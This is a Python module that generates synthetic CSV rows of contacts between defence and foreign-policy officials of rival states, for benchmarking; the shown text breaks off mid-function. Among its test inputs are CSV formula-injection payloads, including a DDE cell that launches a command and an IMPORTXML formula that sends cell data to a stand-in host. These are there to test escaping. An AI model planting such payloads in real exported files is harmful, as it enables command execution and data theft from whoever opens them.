"""Seeded synthetic contact events in the CSV contract, streamed: realistic enough to benchmark on.

``generate(n)`` yields ``n`` rows (lists of cell strings, ``id`` empty) in the contract's column
order, sorted by date, the same rows for the same seed; ``write_csv`` writes them with their
header, and ``python -m benchmarks.synthetic N OUT.csv [--seed S]`` does so from the command line.

The world behind the rows: some ``officials`` people across eight countries, each holding one
post (Secretary of Defense, Minister of Defence, Chief of the General Staff ...) for one tenure,
the holders of a post following one another over 1990-2026; and some ``pairs`` post pairs of
rival states, each with a rhythm of its own: dense crises (several contacts a week), a steady
pace, one meeting a year, bursts between years of silence, or a one-off line of one or two
contacts. A pair continues across its posts' holders. Names are written in their own scripts
or transliterated (Cyrillic, Chinese, Korean, Persian, accented Latin); about 1% of rows have a
summary or publisher that starts like a spreadsheet formula; summaries carry quotes, commas and
line breaks.

Guarantees, by construction and without holding rows: no two rows are the same contact (same
date, end date, unordered pair of names, channel and status: each pair's contacts of one day
have distinct channel-status combinations, and each pair of names belongs to one post pair);
the two sides of a row are different people of different countries; a name always comes with
one country; within a country no two names (nor two posts) are spelt alike. Memory is that of
the world (O(officials + pairs)), not of the rows.

The CSV contract is hard-coded here: this module imports nothing from ``tracker``.
"""

from __future__ import annotations

import argparse
import csv
import datetime as dt
import heapq
import math
import random
import re
import sys
import time
import unicodedata
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from functools import cache
from operator import itemgetter
from pathlib import Path

COLUMNS: tuple[str, ...] = (
    "id",
    "date",
    "date_end",
    "date_precision",
    "official_a",
    "role_a",
    "country_a",
    "official_b",
    "role_b",
    "country_b",
    "channel",
    "status",
    "initiated_by",
    "summary",
    "source_url",
    "source_publisher",
    "source_date",
)
CHANNELS: tuple[str, ...] = ("phone", "video", "in_person", "hotline", "letter", "other")
STATUSES: tuple[str, ...] = ("held", "attempted", "refused", "unknown")
PRECISIONS: tuple[str, ...] = ("day", "week", "month", "approximate")
FIRST_DAY = dt.date(1990, 1, 1)
LAST_DAY = dt.date(2026, 11, 30)
#: Days from FIRST_DAY to LAST_DAY, both included.
DAYS = (LAST_DAY - FIRST_DAY).days + 1
#: Most contacts one pair has on one day (fewer than the 24 channel-status combinations).
SLOTS_PER_DAY = 8
DEFAULT_SEED = 2024

# Weights -----------------------------------------------------------------------------------------

#: Channels before and after video calls became common (from 2008).
CHANNEL_WEIGHTS_EARLY = (40, 2, 30, 10, 12, 6)
CHANNEL_WEIGHTS_LATE = (36, 18, 24, 8, 6, 8)
VIDEO_ERA = (dt.date(2008, 1, 1) - FIRST_DAY).days
STATUS_WEIGHTS = (80, 10, 8, 2)
PRECISION_WEIGHTS = (86, 6, 5, 3)
#: Share of rows that are spans (with ``date_end``), with a formula-like summary or publisher,
#: with a very long summary, without one.
SPAN_SHARE = 0.03
FORMULA_SUMMARY_SHARE = 0.007
FORMULA_PUBLISHER_SHARE = 0.003
LONG_SUMMARY_SHARE = 0.002
NO_SUMMARY_SHARE = 0.04

#: Relative share of the rows a pair of each rhythm gets; a one-off line has 1 or 2 contacts.
#: (A one-off line's weight serves only when there are too few rows for the fixed counts.)
RHYTHM_WEIGHTS = {"crisis": 4.0, "steady": 1.5, "sporadic": 0.7, "yearly": 0.2, "one_off": 0.05}
#: Share of the pairs of each rhythm (one-off lines and the rest are steady).
RHYTHM_SHARES = (("crisis", 0.30), ("yearly", 0.17), ("sporadic", 0.20), ("one_off", 0.08))

# Countries, posts, dyads ---------------------------------------------------------------------------


@dataclass(frozen=True, slots=True)
class PostSpec:
    """A post of a country: its title, what it does (counterparts do the same) and how often its holder changes."""

    country: str
    title: str
    kind: str
    turnover: float


_POST_TABLE: dict[str, tuple[tuple[str, str, float], ...]] = {
    "United States": (
        ("Secretary of Defense", "defense", 1.6),
        ("Secretary of State", "foreign", 1.4),
        ("National Security Advisor", "security", 1.8),
        ("Chairman of the Joint Chiefs of Staff", "military", 1.3),
        ("Director of the CIA", "intelligence", 1.4),
        ("Commander of Indo-Pacific Command", "theater", 1.5),
    ),
    "Russia": (
        ("Minister of Defence", "defense", 0.7),
        ("Minister of Foreign Affairs", "foreign", 0.5),
        ("Chief of the General Staff", "military", 0.7),
        ("Secretary of the Security Council", "security", 0.8),
        ("Director of the Foreign Intelligence Service", "intelligence", 0.6),
    ),
    "China": (
        ("Minister of National Defense", "defense", 0.9),
        ("Minister of Foreign Affairs", "foreign", 0.7),
        ("Chief of the Joint Staff Department", "military", 0.8),
        ("Director of the Central Foreign Affairs Commission Office", "security", 0.7),
        ("Commander of the Southern Theater", "theater", 1.0),
    ),
    "United Kingdom": (
        ("Secretary of State for Defence", "defense", 1.4),
        ("Foreign Secretary", "foreign", 1.5),
        ("National Security Adviser", "security", 1.2),
        ("Chief of the Defence Staff", "military", 1.0),
        ("Chief of the Secret Intelligence Service", "intelligence", 0.8),
    ),
    "Ukraine": (
        ("Minister of Defence", "defense", 1.7),
        ("Minister of Foreign Affairs", "foreign", 1.4),
        ("Chief of the General Staff", "military", 1.2),
        ("Secretary of the National Security and Defense Council", "security", 1.6),
        ("Head of the Presidential Office", "intelligence", 1.4),
    ),
    "North Korea": (
        ("Minister of People's Armed Forces", "defense", 0.9),
        ("Minister of Foreign Affairs", "foreign", 0.7),
        ("Director of the United Front Department", "security", 0.6),
        ("Chief of the General Staff of the KPA", "military", 1.0),
    ),
    "Iran": (
        ("Minister of Foreign Affairs", "foreign", 1.0),
        ("Secretary of the Supreme National Security Council", "security", 1.0),
        ("Minister of Defence and Armed Forces Logistics", "defense", 1.0),
        ("Chief of Staff of the Armed Forces", "military", 0.6),
    ),
    "France": (
        ("Ministre des Armées", "defense", 1.3),
        ("Ministre de l'Europe et des Affaires étrangères", "foreign", 1.2),
        ("Chef d'état-major des armées", "military", 0.8),
        ("Conseiller diplomatique du président", "security", 1.0),
    ),
}
POSTS: tuple[PostSpec, ...] = tuple(
    PostSpec(country, title, kind, turnover)
    for country, rows in _POST_TABLE.items()
    for title, kind, turnover in rows
)
COUNTRIES: tuple[str, ...] = tuple(_POST_TABLE)


@dataclass(frozen=True, slots=True)
class Dyad:
    """Two rival states: how much they talk, since when, and their crises (ISO start, end)."""

    a: str
    b: str
    weight: float
    tension: float
    start: str
    crises: tuple[tuple[str, str], ...]
    topics: tuple[str, ...]


DYADS: tuple[Dyad, ...] = (
    Dyad(
        "United States",
        "Russia",
        5,
        5,
        "1990-01-01",
        (
            ("1999-03-20", "1999-06-15"),
            ("2008-08-07", "2008-09-10"),
            ("2014-02-20", "2014-09-30"),
            ("2022-02-10", "2022-12-31"),
            ("2025-02-10", "2025-08-31"),
        ),
        (
            "New START treaty",
            "drone downed over the Black Sea",
            "exchange of detained nationals",
            "war in Ukraine",
            "deconfliction in Syria",
            "missile defense in Europe",
            "Open Skies Treaty",
            "Kosovo air campaign",
        ),
    ),
    Dyad(
        "United States",
        "China",
        5,
        5,
        "1990-01-01",
        (
            ("1996-03-01", "1996-04-15"),
            ("1999-05-07", "1999-06-30"),
            ("2001-04-01", "2001-05-15"),
            ("2022-08-01", "2022-09-15"),
            ("2023-02-01", "2023-03-10"),
        ),
        (
            "incident in the South China Sea",
            "Taiwan Strait transits",
            "Hainan Island collision",
            "upgrade of the military hotline",
            "maritime safety agreement (MMCA)",
            "downed high-altitude balloon",
            "North Korean missile tests",
        ),
    ),
    Dyad(
        "Ukraine",
        "Russia",
        3,
        5,
        "1992-01-01",
        (
            ("1993-06-01", "1993-09-30"),
            ("2014-02-18", "2015-02-28"),
            ("2019-12-01", "2019-12-31"),
            ("2022-02-24", "2022-04-30"),
            ("2025-05-10", "2025-07-31"),
        ),
        (
            "Black Sea Fleet basing",
            "gas transit",
            "ceasefire in Donbas",
            "prisoner exchange",
            "grain corridor",
            "Zaporizhzhia nuclear plant",
            "Minsk agreements",
        ),
    ),
    Dyad(
        "United Kingdom",
        "Russia",
        2,
        3,
        "1990-01-01",
        (("2006-11-20", "2006-12-31"), ("2018-03-05", "2018-04-30"), ("2022-02-15", "2022-03-31")),
        ("Salisbury poisoning", "Litvinenko inquiry", "embassy expulsions", "North Sea naval transits"),
    ),
    Dyad(
        "France",
        "Russia",
        1.5,
        3,
        "1990-01-01",
        (("2008-08-08", "2008-09-15"), ("2022-01-15", "2022-06-30")),
        ("Normandy format", "Zaporizhzhia nuclear plant", "Mistral ships", "Syria"),
    ),
    Dyad(
        "United States",
        "North Korea",
        1.5,
        1,
        "1990-01-01",
        (("1994-06-01", "1994-10-21"), ("2000-10-01", "2000-11-15"), ("2018-03-01", "2019-06-30")),
        (
            "Agreed Framework",
            "missile test moratorium",
            "repatriation of remains",
            "Singapore summit follow-up",
            "nuclear test notification",
        ),
    ),
    Dyad(
        "United States",
        "Iran",
        1.5,
        1,
        "1990-01-01",
        (("2013-09-20", "2015-07-20"), ("2020-01-03", "2020-01-31"), ("2025-04-10", "2025-06-30")),
        (
            "nuclear negotiations (JCPOA)",
            "detained sailors in the Gulf",
            "prisoner swap",
            "attacks on shipping",
            "sanctions relief",
        ),
    ),
    Dyad(
        "United Kingdom",
        "China",
        1,
        2,
        "1990-01-01",
        (("1997-05-01", "1997-07-15"), ("2019-08-01", "2019-09-30")),
        ("Hong Kong handover", "Hong Kong national security law", "Carrier Strike Group transit"),
    ),
    Dyad(
        "France",
        "China",
        1,
        2,
        "1990-01-01",
        (("2019-03-01", "2019-04-15"),),
        ("Indo-Pacific naval presence", "aircraft contracts", "climate agreement"),
    ),
    Dyad(
        "United Kingdom",
        "Iran",
        1,
        1,
        "1990-01-01",
        (("2007-03-23", "2007-04-10"), ("2019-07-19", "2019-09-30")),
        ("detained British nationals", "seized tanker Stena Impero", "nuclear talks"),
    ),
    Dyad(
        "France",
        "Iran",
        0.8,
        1,
        "1990-01-01",
        (("2015-06-01", "2015-07-20"),),
        ("nuclear talks", "detained French nationals", "Lebanon"),
    ),
)

#: Post pairs every world starts with (while ``pairs`` allows): they carry the fixed names below.
ANCHORS: tuple[tuple[str, str, str, str], ...] = (
    ("United States", "Secretary of Defense", "Russia", "Minister of Defence"),
    ("United States", "Secretary of Defense", "China", "Minister of National Defense"),
    ("United States", "National Security Advisor", "Russia", "Secretary of the Security Council"),
)
#: Holders with fixed names and tenures (they appear whenever their post is in the world).
PINNED: dict[tuple[str, str], tuple[str, str, str]] = {
    ("Russia", "Minister of Defence"): ("Сергей Шойгу", "2012-11-06", "2024-05-12"),
    ("Russia", "Secretary of the Security Council"): ("Sergueï Choïgou", "2024-05-12", "2026-11-30"),
    ("China", "Minister of National Defense"): ("董军", "2023-12-29", "2026-11-30"),
}

# Names ----------------------------------------------------------------------------------------------
# Each word lists its spellings, one per script of the country ("|" between them).

_ENGLISH_GIVEN = """
James Margaret Robert Susan Thomas Fiona Oliver Helen Daniel Catherine Michael Patricia William
Deborah Richard Elizabeth Charles Barbara Joseph Jennifer Christopher Linda Anthony Sandra Mark
Rebecca Steven Laura Kenneth Angela Gregory Nicole Raymond Valerie Douglas Theresa Harold
Gwendolyn Walter Priya Arjun José Zoë Renée Chloë Siân Seán Niamh Aoife Björn Dolores Ignacio
Marisol Kwame Adaeze Hiroshi Bartholomew Imogen Rupert Alastair Ffion Rhys Hamish Morag Declan
Teodora Leopold Constance Winifred
"""
_ENGLISH_FAMILY = """
Harper Ellis Kline Okafor Reyes Whitfield Brennan Castellanos Dunmore Fairbanks Galloway Ashworth
Blackwood Cunningham Delgado Everett Fitzgerald Gutierrez Hargreaves Ingram Jefferson Kowalski
Lindqvist McAllister Nakamura O'Connor Pemberton Quintero Rutherford Sorensen Thornton Underwood
Vasquez Wainwright Yarborough Zimmerman Abernathy Beaumont Chandler Dempsey Eastwood Forsythe
Gallagher Hawthorne Iverson Jardine Kingsley Lockhart Montgomery Northcott Ogilvy Prescott
Radcliffe Sinclair Trevelyan Upton Vickers Wetherby Ackroyd Bellamy Carrington Drummond Ellsworth
Fenwick Goodall Ibáñez Jiménez Núñez Müller Łukasik Ødegaard
"""
_FRENCH_GIVEN = """
Hélène François Jérôme Gaël Anaïs Benoît Cécile Étienne Geneviève Loïc Mathilde Noël Océane
Pierre-Yves Raphaël Sébastien Thérèse Valérie Zoé Amélie Aurélien Clémence Désiré Élodie Frédéric
Grégoire Héloïse Inès Joël Léa Maëlle Nathanaël Oriane Pénélope Rémi Ségolène Timothée Yannick
Bérénice Guillaume
"""
_FRENCH_FAMILY = """
Lefèvre Bénard Duchêne Mérieux Dupré Lacroix Moreau Girard Rousseau Fontaine Chevalier Gauthier
Perrin Boucher Lemaître Aubert Barthélemy Carpentier Écuyer Faure Guérin Hébert Joubert Klein
Marchand Noiret Pécresse Quémeneur Rivière Sauvage Tessier Vidal Wauquiez Cazeneuve Deschamps
Escoffier Ferrand Garnier Huchon Imbert Jacquet Lambert Mauger Nectoux Poirier Raynaud Soulier
Thibault Vernier
"""
_RUSSIAN_GIVEN = """
Sergei|Сергей|Sergueï Dmitry|Дмитрий|Dmitri Nikolai|Николай|Nikolaï Alexei|Алексей|Alexeï
Andrei|Андрей|Andreï Valery|Валерий|Valéri Yevgeny|Евгений|Evgueni Anatoly|Анатолий|Anatoli
Mikhail|Михаил|Mikhaïl Igor|Игорь|Igor Pavel|Павел|Pavel Vladimir|Владимир|Vladimir
Yuri|Юрий|Iouri Oleg|Олег|Oleg Boris|Борис|Boris Viktor|Виктор|Viktor Gennady|Геннадий|Guennadi
Konstantin|Константин|Konstantin Leonid|Леонид|Léonid Grigory|Григорий|Grigori
Vyacheslav|Вячеслав|Viatcheslav Arkady|Аркадий|Arkadi Fyodor|Фёдор|Fiodor
Stanislav|Станислав|Stanislav Roman|Роман|Roman Timur|Тимур|Timour Yaroslav|Ярослав|Iaroslav
Gleb|Глеб|Gleb Matvei|Матвей|Matveï Ruslan|Руслан|Rouslane
"""
_RUSSIAN_FAMILY = """
Petrov|Петров|Petrov Sokolov|Соколов|Sokolov Lebedev|Лебедев|Lebedev Orlov|Орлов|Orlov
Gerasimov|Герасимов|Guerassimov Baluyevsky|Балуевский|Balouïevski Kvashnin|Квашнин|Kvachnine
Ivashov|Ивашов|Ivachov Makarov|Макаров|Makarov Serdyukov|Сердюков|Serdioukov
Grachev|Грачёв|Gratchev Rodionov|Родионов|Rodionov Patrushev|Патрушев|Patrouchev
Rushailo|Рушайло|Rouchaïlo Kokoshin|Кокошин|Kokochine Primakov|Примаков|Primakov
Fradkov|Фрадков|Fradkov Naryshkin|Нарышкин|Narychkine Trubnikov|Трубников|Troubnikov
Lavrentiev|Лаврентьев|Lavrentiev Tikhonov|Тихонов|Tikhonov Zolotov|Золотов|Zolotov
Yakovlev|Яковлев|Iakovlev Belousov|Белоусов|Belooussov Tsalikov|Цаликов|Tsalikov
Shvetsov|Швецов|Chvetsov Zhukov|Жуков|Joukov Chernov|Чернов|Tchernov Gusev|Гусев|Goussev
Dvornikov|Дворников|Dvornikov Tarasov|Тарасов|Tarassov Filatov|Филатов|Filatov
Kuzmin|Кузьмин|Kouzmine Yermakov|Ермаков|Iermakov Vinogradov|Виноградов|Vinogradov
Bogdanov|Богданов|Bogdanov Nesterov|Нестеров|Nesterov Shestakov|Шестаков|Chestakov
Kalinin|Калинин|Kalinine Golubev|Голубев|Goloubev Ryabkov|Рябков|Riabkov Surikov|Суриков|Sourikov
"""
_UKRAINIAN_GIVEN = """
Oleksandr|Олександр Andriy|Андрій Mykola|Микола Volodymyr|Володимир Yuriy|Юрій Petro|Петро
Serhiy|Сергій Vasyl|Василь Oleksiy|Олексій Dmytro|Дмитро Ihor|Ігор Valeriy|Валерій Stepan|Степан
Bohdan|Богдан Taras|Тарас Yevhen|Євген Ruslan|Руслан Anatoliy|Анатолій Viktor|Віктор
Kyrylo|Кирило Mykhailo|Михайло Pavlo|Павло Roman|Роман Hennadiy|Геннадій Oleh|Олег
Yaroslav|Ярослав Maksym|Максим Iryna|Ірина Olha|Ольга Oksana|Оксана Kateryna|Катерина
Yuliya|Юлія Halyna|Галина Nataliya|Наталія
"""
_UKRAINIAN_FAMILY = """
Shevchenko|Шевченко Kovalenko|Коваленко Bondarenko|Бондаренко Tkachuk|Ткачук Melnyk|Мельник
Kravchuk|Кравчук Oliynyk|Олійник Polishchuk|Поліщук Lysenko|Лисенко Marchenko|Марченко
Rudenko|Руденко Savchuk|Савчук Honchar|Гончар Moroz|Мороз Hrytsenko|Гриценко Zaluzhny|Залужний
Syrskyi|Сирський Kuleba|Кулеба Klymenko|Клименко Ponomarenko|Пономаренко Yatsenko|Яценко
Danylyuk|Данилюк Bilous|Білоус Vovk|Вовк Zhuk|Жук Hnatyuk|Гнатюк Prystaiko|Пристайко
Umerov|Умєров Reznikov|Резніков Sybiha|Сибіга Tarasiuk|Тарасюк Ohryzko|Огризко
Horbulin|Горбулін Radetsky|Радецький Muzhenko|Муженко Khomchak|Хомчак Turchynov|Турчинов
Yermak|Єрмак Bohomolets|Богомолець Fedorov|Федоров Shmyhal|Шмигаль
"""
_CHINESE_GIVEN = """
Jianguo|建国 Weidong|卫东 Haiyang|海洋 Zhiqiang|志强 Xiaoming|晓明 Guoqing|国庆 Hongwei|宏伟
Yuming|玉明 Changfu|长福 Wenbin|文斌 Shaoguang|绍光 Dehai|德海 Lianjie|连杰 Baoshan|宝山
Chunlin|春林 Zhenyu|振宇 Kaiwen|凯文 Mingzhe|明哲 Yunpeng|云鹏 Lixin|立新 Huaqing|华清
Tieying|铁鹰 Shouren|守仁 Fengxia|凤霞 Zhongyi|忠义 Xuefeng|雪峰 Jiahao|嘉豪 Wanli|万里
Qingsong|青松 Yifan|一帆 Zhaoxing|兆星 Dongsheng|东升 Ruiqi|瑞琪 Songtao|松涛 Guangming|光明
Jingwei|敬伟 Renjie|仁杰 Mingyuan|明远 Jun|军 Bo|波
"""
_CHINESE_FAMILY = """
Wang|王 Li|李 Zhang|张 Liu|刘 Chen|陈 Yang|杨 Zhao|赵 Huang|黄 Zhou|周 Wu|吴 Xu|徐 Sun|孙 Hu|胡
Zhu|朱 Gao|高 Lin|林 He|何 Guo|郭 Ma|马 Luo|罗 Liang|梁 Song|宋 Zheng|郑 Xie|谢 Han|韩 Tang|唐
Feng|冯 Xiao|萧 Cheng|程 Cao|曹 Yuan|袁 Deng|邓 Fu|傅 Shen|沈 Zeng|曾 Peng|彭 Su|苏 Jiang|蒋
Cai|蔡 Jia|贾 Ding|丁 Wei|魏 Xue|薛 Ye|叶 Pan|潘 Du|杜 Dai|戴 Xia|夏 Zhong|钟 Tian|田 Ren|任
Fang|方 Yao|姚 Tan|谭 Liao|廖 Zou|邹 Xiong|熊 Jin|金 Hao|郝 Kong|孔 Bai|白 Cui|崔 Kang|康 Qin|秦
"""
_KOREAN_GIVEN = """
Yong-chol|영철 Son-hui|선희 Myong-guk|명국 Kyong-ho|경호 Chol-su|철수 Song-nam|성남
Il-gwang|일광 Jong-ho|정호 Hyok-chol|혁철 Kwang-jin|광진 Thae-song|태성 Su-yong|수용
Myong-gil|명길 Chang-bok|창복 Ho-nam|호남 Tong-il|통일 Sang-hun|상훈 Kyu-hyon|규현
Chun-hwa|춘화 Nam-sik|남식 Ok-sun|옥순 Pyong-chol|병철 Tae-jong|태종 Won-il|원일
"""
_KOREAN_FAMILY = """
Kim|김 Ri|리 Pak|박 Choe|최 Jong|정 Kang|강 Jo|조 Yun|윤 Jang|장 Han|한 O|오 So|소 Hwang|황
Ko|고 Mun|문 Ryu|류 Son|손 An|안 Hong|홍 Jon|전 Chae|채 Kwon|권 Paek|백 Sin|신 Nam|남 Thae|태
Yang|양 Ju|주 Cha|차
"""
_PERSIAN_GIVEN = """
Mohammad|محمد Ali|علی Hossein|حسین Javad|جواد Abbas|عباس Mahmoud|محمود Hassan|حسن Ahmad|احمد
Reza|رضا Saeed|سعید Mehdi|مهدی Kamal|کمال Manouchehr|منوچهر Akbar|اکبر Hamid|حمید Majid|مجید
Bahram|بهرام Dariush|داریوش Kaveh|کاوه Farhad|فرهاد Nasser|ناصر Parviz|پرویز Rostam|رستم
Shahram|شهرام Yousef|یوسف Ebrahim|ابراهیم Esmaeil|اسماعیل Masoud|مسعود Mostafa|مصطفی
"""
_PERSIAN_FAMILY = """
Zarif|ظریف Araghchi|عراقچی Larijani|لاریجانی Rouhani|روحانی Velayati|ولایتی Salehi|صالحی
Shamkhani|شمخانی Jalili|جلیلی Ahmadian|احمدیان Bagheri|باقری Dehghan|دهقان Hatami|حاتمی
Najjar|نجار Vahidi|وحیدی Mottaki|متکی Kharazi|خرازی Firouzabadi|فیروزآبادی Mousavi|موسوی
Rezaei|رضایی Soleimani|سلیمانی Tehrani|تهرانی Ghalibaf|قالیباف Karimi|کریمی
Nourbakhsh|نوربخش Rahimi|رحیمی Sadeghi|صادقی Tavakoli|توکلی Yazdani|یزدانی Ziaei|ضیایی
Asadi|اسدی Farahani|فراهانی Golshiri|گلشیری Jafari|جعفری Kazemi|کاظمی Mirzaei|میرزایی
Pourmand|پورمند Shariati|شریعتی Taheri|طاهری
"""


@dataclass(frozen=True, slots=True)
class Script:
    """One way a country's names are written: which spelling, family name first or not, the separator."""

    spelling: int
    family_first: bool
    separator: str
    weight: float


@dataclass(frozen=True, slots=True)
class NameBook:
    """Given and family names of a country (each with a spelling per script) and its scripts."""

    given: tuple[tuple[str, ...], ...]
    family: tuple[tuple[str, ...], ...]
    scripts: tuple[Script, ...]


def _words(text: str) -> tuple[tuple[str, ...], ...]:
    return tuple(tuple(word.split("|")) for word in text.split())


_LATIN = (Script(0, False, " ", 1.0),)
NAME_BOOKS: dict[str, NameBook] = {
    "United States": NameBook(_words(_ENGLISH_GIVEN), _words(_ENGLISH_FAMILY), _LATIN),
    "United Kingdom": NameBook(_words(_ENGLISH_GIVEN), _words(_ENGLISH_FAMILY), _LATIN),
    "France": NameBook(_words(_FRENCH_GIVEN), _words(_FRENCH_FAMILY), _LATIN),
    "Russia": NameBook(
        _words(_RUSSIAN_GIVEN),
        _words(_RUSSIAN_FAMILY),
        (Script(0, False, " ", 0.45), Script(1, False, " ", 0.35), Script(2, False, " ", 0.2)),
    ),
    "Ukraine": NameBook(
        _words(_UKRAINIAN_GIVEN),
        _words(_UKRAINIAN_FAMILY),
        (Script(0, False, " ", 0.55), Script(1, False, " ", 0.45)),
    ),
    "China": NameBook(
        _words(_CHINESE_GIVEN),
        _words(_CHINESE_FAMILY),
        (Script(0, True, " ", 0.55), Script(1, True, "", 0.45)),
    ),
    "North Korea": NameBook(
        _words(_KOREAN_GIVEN),
        _words(_KOREAN_FAMILY),
        (Script(0, True, " ", 0.6), Script(1, True, "", 0.4)),
    ),
    "Iran": NameBook(
        _words(_PERSIAN_GIVEN),
        _words(_PERSIAN_FAMILY),
        (Script(0, False, " ", 0.7), Script(1, False, " ", 0.3)),
    ),
}

# Sources and summaries --------------------------------------------------------------------------

PUBLISHERS: dict[str, tuple[tuple[str, str], ...]] = {
    "United States": (
        ("U.S. Department of Defense", "https://www.defense.gov/News/Releases/Release/Article/"),
        ("U.S. Department of State", "https://www.state.gov/readout-"),
        ("The White House", "https://www.whitehouse.gov/briefing-room/statements/"),
        ("Reuters", "https://www.reuters.com/world/"),
    ),
    "United Kingdom": (
        ("Ministry of Defence", "https://www.gov.uk/government/news/"),
        ("Foreign, Commonwealth & Development Office", "https://www.gov.uk/government/news/fcdo-"),
        ("BBC News", "https://www.bbc.co.uk/news/world-"),
    ),
    "France": (
        ("Ministère des Armées", "https://www.defense.gouv.fr/actualites/"),
        ("Le Monde", "https://www.lemonde.fr/international/article/"),
        ("Élysée", "https://www.elysee.fr/emmanuel-macron/"),
    ),
    "Russia": (
        (
            "Министерство обороны Российской Федерации",
            "https://function.mil.ru/news_page/country/more.htm?id=",
        ),
        ("Ministry of Foreign Affairs of the Russian Federation", "https://mid.ru/en/foreign_policy/news/"),
        ("ТАСС", "https://tass.ru/politika/"),
        ("Interfax", "http://www.interfax.ru/world/"),
    ),
    "Ukraine": (
        ("Міністерство оборони України", "https://www.mil.gov.ua/news/"),
        ("Ukrinform", "https://www.ukrinform.net/rubric-polytics/"),
    ),
    "China": (
        ("新华社", "http://www.news.cn/politics/"),
        ("Ministry of National Defense of the PRC", "http://eng.mod.gov.cn/xb/News_213114/"),
        ("中华人民共和国外交部", "https://www.mfa.gov.cn/web/wjdt_674879/"),
    ),
    "North Korea": (
        ("KCNA", "http://www.kcna.kp/en/article/"),
        ("조선중앙통신", "http://www.kcna.kp/kp/article/"),
    ),
    "Iran": (
        ("IRNA", "https://en.irna.ir/news/"),
        ("وزارت امور خارجه", "https://mfa.gov.ir/portal/newsview/"),
        ("Tehran Times", "https://www.tehrantimes.com/news/"),
    ),
}
TEMPLATES: tuple[str, ...] = (
    'Discussed the {topic}; both sides "agreed to keep channels open".',
    "Raised the {topic}, and asked for a follow-up call within the month.",
    "Exchanged views on the {topic}, arms control and crisis communication.",
    "Readout: the {topic} was discussed at length, without agreement.",
    "Call requested to discuss the {topic}; the other side did not pick up.",
    'Meeting on the sidelines of the summit.\nTopics: the {topic}, prisoner exchanges, "deconfliction".',
    "Letter delivered through the embassy about the {topic}.",
    'Statement: "We made our position on the {topic} clear," a spokesperson said.',
    "Talks on the {topic} ran past midnight;\r\nno joint statement was issued.",
    "Brief hotline exchange about the {topic} (15 minutes, per officials).",
    'Asked for a call about the {topic}, which was declined, citing "scheduling".',
    "First contact in months, on the {topic}, per the ministry's readout.",
    'Agenda:\n- the {topic}\n- next round of talks, dates "to be agreed"',
)
FOREIGN_SUMMARIES: dict[str, tuple[str, ...]] = {
    "Russia": (
        "Состоялся телефонный разговор. Обсуждались вопросы стратегической стабильности.",
        "Стороны обменялись мнениями о «взаимных озабоченностях», в том числе о контроле над вооружениями.",
        "Российская сторона выразила протест;\nответа не последовало.",
    ),
    "China": (
        "双方就台海局势、南海问题交换了意见。",
        "中方表示，希望对方“言行一致”。\n会谈持续约一小时。",
        "两军就海上安全问题举行视频通话。",
    ),
    "France": (
        "Entretien téléphonique : échange sur la sécurité européenne et « la désescalade ».",
        "Réunion à Paris ; les deux ministres ont évoqué le dossier nucléaire, sans avancée.",
    ),
    "Ukraine": (
        "Переговори щодо обміну полоненими; сторони «не дійшли згоди».",
        "Телефонна розмова, обговорено безпеку Запорізької АЕС.",
    ),
    "North Korea": ("양측은 한반도 정세에 대해 의견을 교환했다.", "조선측은 회담 제의를 거절하였다."),
    "Iran": ("دو طرف درباره توافق هسته ای گفتگو کردند.", "تماس تلفنی درباره تبادل زندانیان."),
    "United States": ("Readout — “productive, candid and constructive”, per the Pentagon.",),
    "United Kingdom": ("Call “cordial but frank”; the Minister raised détente and the Baltic.",),
}
#: Cells that a spreadsheet would read as formulas (the start of a summary or a publisher).
FORMULA_SUMMARIES: tuple[str, ...] = (
    '=HYPERLINK("http://example.com/readout","Readout")',
    "=1+1",
    "+7 495 696-71-71: the hotline number read out in the call",
    "-10% in troop numbers was the proposal, per the readout",
    "@MID_RF posted the readout first",
    "\t=SUM(A1:A10)",
    "\r=cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://x.example/?",A1),"//a")',
    '+"agreed", said the readout',
    "-@SUM(1,2) appeared in the transcript",
)
FORMULA_PUBLISHERS: tuple[str, ...] = (
    "=Ministry of Defence",
    "@DefenceHQ",
    "+TASS",
    "-Reuters-",
    "\t=Xinhua",
    "\r=KCNA",
)
_LONG_PARAGRAPH = (
    'The delegations met for several hours. The readout says the sides "exchanged views", '
    "including on notification of exercises, incidents at sea and in the air, and the hotline.\n"
    "Стороны договорились продолжить контакты. 双方同意保持沟通。 Les deux parties ont convenu de se revoir.\n"
)
LONG_SUMMARIES: tuple[str, ...] = tuple(
    (_LONG_PARAGRAPH * (size // len(_LONG_PARAGRAPH) + 1))[:size].rstrip() for size in (2_000, 5_000, 10_000)
)
#: Days between a contact and its source, weighted (most are reported the same day or the next).
SOURCE_DELAYS: tuple[int, ...] = (0,) * 40 + (1,) * 25 + (2,) * 12 + (3,) * 8 + (5, 7, 10, 14, 21, 30)

# The world ----------------------------------------------------------------------------------------


@cache
def iso_days() -> tuple[str, ...]:
    """The ISO text of every day from FIRST_DAY to LAST_DAY, by offset."""
    return tuple((FIRST_DAY + dt.timedelta(days=i)).isoformat() for i in range(DAYS))


def _offset(iso: str) -> int:
    return (dt.date.fromisoformat(iso) - FIRST_DAY).days


def _year_starts() -> list[int]:
    return [(dt.date(y, 1, 1) - FIRST_DAY).days for y in range(FIRST_DAY.year, LAST_DAY.year + 1)] + [DAYS]


@dataclass(frozen=True, slots=True)
class Holders:
    """The holders of one post: the offset of the first day of each tenure, and their names."""

    starts: tuple[int, ...]
    names: tuple[str, ...]


@dataclass(frozen=True, slots=True)
class Segment:
    """Days ``start`` to ``end`` (excluded) of a pair's timeline, with the contacts it gets."""

    start: int
    end: int
    weight: float


@dataclass(slots=True)
class Stream:
    """One post pair: its posts, rhythm, timeline and the number of contacts it gets."""

    index: int
    post_a: PostSpec
    post_b: PostSpec
    dyad: Dyad
    rhythm: str
    segments: list[Segment]
    counts: list[int]
    total: int
    seed: int


@dataclass(frozen=True, slots=True)
class World:
    """Everything ``generate`` draws rows from: posts, holders, pairs and their timelines."""

    streams: tuple[Stream, ...]
    holders: dict[PostSpec, Holders]
    pools: dict[Dyad, tuple[str, ...]]


def apportion(total: int, weights: Sequence[float], caps: Sequence[int]) -> list[int]:
    """``total`` split in proportion to ``weights``, no part above its cap (the excess goes to the others)."""
    if total > sum(c for c, w in zip(caps, weights, strict=True) if w > 0):
        raise ValueError(f"cannot place {total} items: the capacity is smaller")
    shares = [0.0] * len(weights)
    free = [i for i, w in enumerate(weights) if w > 0 and caps[i] > 0]
    left = float(total)
    while left > 1e-9 and free:
        weight = sum(weights[i] for i in free)
